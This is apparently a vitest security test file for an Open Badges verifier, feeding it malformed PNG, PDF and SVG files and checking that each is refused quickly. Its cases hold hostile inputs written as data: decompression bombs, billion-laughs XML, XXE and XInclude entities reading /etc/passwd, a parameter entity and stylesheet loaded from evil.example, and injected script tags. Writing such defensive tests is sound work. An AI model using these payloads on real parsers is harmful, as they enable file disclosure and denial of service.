// V9, V10: pictures and PDFs that burst, hide or lie, brought to be verified or to be shown.
import sharp from 'sharp'
import { crc32, deflateSync } from 'node:zlib'
import { describe, expect, it } from 'vitest'
import { reencodeUpload } from '../../src/gateways/images.ts'
import { bakePng, unbakePng } from '../../src/openbadges/bake-png.ts'
import { bakeSvg, unbakeSvg } from '../../src/openbadges/bake-svg.ts'
import { verifyCredential } from '../../src/openbadges/verify.ts'
import { makePdf } from '../support/pdf.ts'
import { makeOutside, signed, timed } from './attack-start.ts'
import { atMost } from '../support/rounds.ts'

const text = JSON.stringify(signed)
const blank = new Uint8Array(await sharp({ create: { width: 8, height: 8, channels: 4, background: '#0000' } }).png().toBuffer())

function chunk(type: string, data: Uint8Array | string): Buffer {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), Buffer.from(data as string, 'latin1')])
  const made = Buffer.alloc(body.length + 8)
  made.writeUInt32BE(body.length - 4, 0)
  body.copy(made, 4)
  made.writeUInt32BE(crc32(body), made.length - 4)
  return made
}
/** The blank picture with more chunks after its header. */
const withChunks = (...chunks: Buffer[]) => new Uint8Array(Buffer.concat([blank.subarray(0, 33), ...chunks, blank.subarray(33)]))
const textChunk = (value: string | Uint8Array, { keyword = 'openbadgecredential', isCompressed = false } = {}) =>
  chunk('iTXt', Buffer.concat([Buffer.from(`${keyword}\0${isCompressed ? '\u0001' : '\0'}\0\0\0`, 'latin1'), isCompressed ? deflateSync(value, { level: 9 }) : Buffer.from(value as string)]))
const changed = (png: Uint8Array, change: (bytes: Buffer) => void) => {
  const copy = Buffer.from(png)
  change(copy)
  return new Uint8Array(copy)
}
const verdict = async (input: Uint8Array | string) => (await verifyCredential(input, makeOutside())).outcome

describe('V9 a PNG', () => {
  it('with one badge is read, so that each refusal below has its own cause', async () => {
    expect(await verdict(bakePng(blank, text))).toBe('valid')
    expect(await verdict(withChunks(textChunk(text, { isCompressed: true })))).toBe('valid')
  })
  it.each<[string, () => Uint8Array]>([
    ['50 kB of compressed text that becomes 60 MB', () => withChunks(textChunk(Buffer.alloc(60_000_000), { isCompressed: true }))],
    ['compressed text that becomes 200 MB', () => withChunks(textChunk(Buffer.alloc(200_000_000), { isCompressed: true }))],
    ['zTXt in place of the text, which the standard does not know', () => withChunks(chunk('zTXt', Buffer.concat([Buffer.from('openbadgecredential\0\0'), deflateSync(text)])))],
    ['a hundred thousand text chunks', () => withChunks(...Array.from({ length: 100_000 }, () => chunk('tEXt', 'a\0b')))],
    ['10,001 text chunks', () => withChunks(...Array.from({ length: 10_001 }, () => chunk('tEXt', 'a\0b')))],
    ['two badges', () => withChunks(textChunk(text), textChunk(text))],
    ['two badges, one compressed', () => withChunks(textChunk(text), textChunk(text, { isCompressed: true }))],
    ['a chunk of 0x7fffffff bytes', () => changed(bakePng(blank, text), (bytes) => bytes.writeUInt32BE(0x7fffffff, 33))],
    ['a chunk of 0xffffffff bytes', () => changed(bakePng(blank, text), (bytes) => bytes.writeUInt32BE(0xffffffff, 33))],
    ['a wrong checksum', () => changed(bakePng(blank, text), (bytes) => void (bytes[60] = (bytes[60] ?? 0) ^ 1))],
    ['65,535 by 65,535 pixels', () => withHeader(65_535, 65_535)],
    ['4,097 pixels on a side', () => withHeader(4_097, 8)],
    ['a web page after its end', () => new Uint8Array(Buffer.concat([bakePng(blank, text), Buffer.from('<html><script>alert(1)</script>')]))],
    ['a web page before its beginning', () => new Uint8Array(Buffer.concat([Buffer.from('<html>'), bakePng(blank, text)]))],
    ['no end', () => bakePng(blank, text).subarray(0, -12)],
    ['more than 5 MB', () => withChunks(chunk('tEXt', Buffer.concat([Buffer.from('a\0'), Buffer.alloc(5_000_000)])), textChunk(text))],
    ['text that is no UTF-8', () => withChunks(textChunk(new Uint8Array([...Buffer.from(text), 0xff])))],
    ['a keyword that only begins as ours', () => withChunks(textChunk(text, { keyword: 'openbadgecredential2' }))],
  ])('with %s is never valid, and ends soon', async (_name, make) => {
    const png = make()
    const { milliseconds, result } = await timed(() => verdict(png))
    expect(result).not.toBe('valid')
    expect(milliseconds).toBeLessThan(atMost(500))
  })
  it('that is animated or hides a page may carry a badge, and neither is ever served: what is shown was drawn anew', async () => {
    const animated = withChunks(chunk('acTL', Buffer.alloc(8)))
    await expect(reencodeUpload(animated)).rejects.toMatchObject({ code: 'image_unreadable' })
    const hidden = new Uint8Array(Buffer.concat([withChunks(chunk('tEXt', 'Comment\0<script>alert(1)</script>'), textChunk(text)), Buffer.from('<script>alert(2)</script>')]))
    const { png } = await reencodeUpload(hidden)
    expect(Buffer.from(png).includes('script')).toBe(false)
    expect(() => unbakePng(png)).toThrow('no_credential')
  })
})

describe('V9 a PDF', () => {
  it('with one badge is read, whichever program saved it, and its other files are passed over', async () => {
    const other = { text: '<invoice/>', subtype: 'text#2Fxml' }
    for (const pdf of [
      makePdf([{ text }]),
      makePdf([{ text, isCompressed: true }]),
      makePdf([other, { text }, other]),
      makePdf([{ text, length: '12 0 R' }], { tail: `12 0 obj\n7\nendobj\n12 0 obj\n${Buffer.byteLength(text)}\nendobj\n` }),
      makePdf([{ text, subtype: 'application#2Fld#2Bjson' }]),
      new Uint8Array(Buffer.from(Buffer.from(makePdf([{ text }])).toString('latin1').replace('/Type /EmbeddedFile', '/Type/EmbeddedFile'), 'latin1')),
    ]) {
      const report = await verifyCredential(pdf, makeOutside())
      expect(report).toMatchObject({ outcome: 'valid', format: 'pdf' })
    }
  })
  it('without a badge is not a badge, and no false one', async () => {
    for (const pdf of [makePdf([]), makePdf([{ text, subtype: 'text#2Fplain' }]), makePdf([{ text }], { tail: 'trailer << /Encrypt 7 0 R >>' }), Buffer.from('%PDF-')]) expect(await verdict(pdf)).toBe('not_a_badge')
  })
  it.each<[string, () => Uint8Array]>([
    ['50 kB that become 60 MB', () => makePdf([{ text: Buffer.alloc(60_000_000), isCompressed: true }])],
    ['more than a megabyte of text', () => makePdf([{ text: `${text}${' '.repeat(1_100_000)}` }])],
    ['two badges', () => makePdf([{ text }, { text }])],
    ['two badges, one of them as it was before it was saved again', () => makePdf([{ text }, { text, isCompressed: true }])],
    ['thirty thousand files', () => makePdf(Array.from({ length: 30_000 }, () => ({ text: '' })))],
    ['a length beyond its end', () => makePdf([{ text, length: '999999999' }])],
    ['a length that stands nowhere', () => makePdf([{ text, length: '12 0 R' }])],
    ['a length that cuts it', () => makePdf([{ text, length: '100' }])],
    ['a filter that we do not know', () => makePdf([{ text, more: '/Filter /LZWDecode ' }])],
    ['two filters', () => makePdf([{ text, more: '/Filter [ /FlateDecode /FlateDecode ] ' }])],
    ['a predictor', () => makePdf([{ text, isCompressed: true, more: '/DecodeParms << /Predictor 12 >> ' }])],
    ['broken compression', () => makePdf([{ text, more: '/Filter /FlateDecode ' }])],
    ['text that is no UTF-8', () => makePdf([{ text: new Uint8Array([...Buffer.from(text), 0xff]) }])],
    ['more than 5 MB', () => makePdf([{ text }], { head: '%'.repeat(5_000_000) })],
    ['words that look for an object for ever', () => makePdf([{ text: 'x', subtype: 'text#2Fplain' }], { head: `${'/Encrypt 1 '.repeat(200_000)}${'/Type '.repeat(300_000)}` })],
    ['a page before its beginning', () => new Uint8Array(Buffer.concat([Buffer.from('<html>'), makePdf([{ text }])]))],
    ['a changed badge', () => makePdf([{ text: text.replace('"name":"', '"name":"Grand ') }])],
  ])('with %s is never valid, and ends soon', async (_name, make) => {
    const pdf = make()
    const { milliseconds, result } = await timed(() => verdict(pdf))
    expect(result).not.toBe('valid')
    expect(milliseconds).toBeLessThan(atMost(500))
  })
})

function withHeader(width: number, height: number): Uint8Array {
  const header = Buffer.from(blank.subarray(16, 29))
  header.writeUInt32BE(width, 0)
  header.writeUInt32BE(height, 4)
  return new Uint8Array(Buffer.concat([blank.subarray(0, 8), chunk('IHDR', header), textChunk(text), blank.subarray(33)]))
}

describe('V10 an SVG', () => {
  const svg = '<svg xmlns="http://www.w3.org/2000/svg"><circle r="4"/></svg>'
  const baked = bakeSvg(svg, text)
  const before = (start: string) => `${start}${baked}`
  const namespace = 'https://purl.imsglobal.org/ob/v3p0'
  const element = /<openbadges:credential.*<\/openbadges:credential>/s.exec(baked)?.[0] ?? ''
  it('with one badge is read', async () => {
    expect(await verdict(baked)).toBe('valid')
  })
  it.each<[string, string]>([
    ['a billion laughs', before('<!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>')],
    ['a quadratic blow-up', `<!DOCTYPE svg [<!ENTITY a "${'x'.repeat(50_000)}">]>${baked.replace('</svg>', `<text>${'&a;'.repeat(50_000)}</text></svg>`)}`],
    ['an external entity', before('<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>')],
    ['a parameter entity', before('<!DOCTYPE svg [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]>')],
    ['a DOCTYPE in another case', before('<!doctype svg>')],
    ['a DOCTYPE after a comment', before('<!-- x --><!DOCTYPE svg>')],
    ['an undeclared entity', baked.replace('<circle', '<text>&file;</text><circle')],
    ['a style sheet instruction', before('<?xml-stylesheet href="http://evil.example/x.xsl"?>')],
    ['another instruction', baked.replace('<circle', '<?php x ?><circle')],
    ['UTF-7', before('<?xml version="1.0" encoding="UTF-7"?>')],
    ['UTF-16', before('<?xml version="1.0" encoding="UTF-16"?>')],
    ['a hundred thousand levels', baked.replace('<circle r="4"/>', '<g>'.repeat(100_000) + '</g>'.repeat(100_000))],
    ['a hundred thousand elements', baked.replace('<circle r="4"/>', '<g/>'.repeat(100_000))],
    ['two badges', baked.replace('<circle', `${element}<circle`)],
    ['its badge inside another element', baked.replace(element, `<g>${element}</g>`)],
    ['an element inside its badge', baked.replace('<![CDATA[', '<b/><![CDATA[')],
    ['another name for the prefix', baked.replace(`xmlns:openbadges="${namespace}"`, 'xmlns:openbadges="https://evil.example/"')],
    ['a prefix that nobody declared', baked.replace(` xmlns:openbadges="${namespace}"`, '')],
    ['a name that has the prefix in it', baked.replaceAll('openbadges:credential', 'openbadges:credential.x')],
    ['another root', baked.replaceAll('svg', 'html')],
    ['something after its end', `${baked}<script/>`],
    ['more than 5 MB', baked.replace('<circle', `<!-- ${'x'.repeat(5_000_000)} --><circle`)],
  ])('with %s is never valid, and ends soon', async (_name, input) => {
    expect(input).not.toBe(baked)
    const { milliseconds, result } = await timed(() => verdict(input))
    expect(result).not.toBe('valid')
    expect(milliseconds).toBeLessThan(atMost(1_000))
  })
  it('that includes another file, or runs a script, is read for its badge alone, and is not shown', async () => {
    const scripted = baked.replace('<circle', '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/><script>alert(1)</script><circle')
    expect(await verdict(scripted)).toBe('valid')
    const { png } = await reencodeUpload(new TextEncoder().encode(svg.replace('<circle', '<script>alert(1)</script><circle')))
    expect(Buffer.from(png.subarray(1, 4)).toString()).toBe('PNG')
  })
  it('takes the same badge by any prefix that means it', () => {
    const other = baked.replaceAll('openbadges:', 'ob:').replace('xmlns:openbadges', 'xmlns:ob')
    expect(unbakeSvg(other).credential).toBe(unbakeSvg(baked).credential)
  })
})
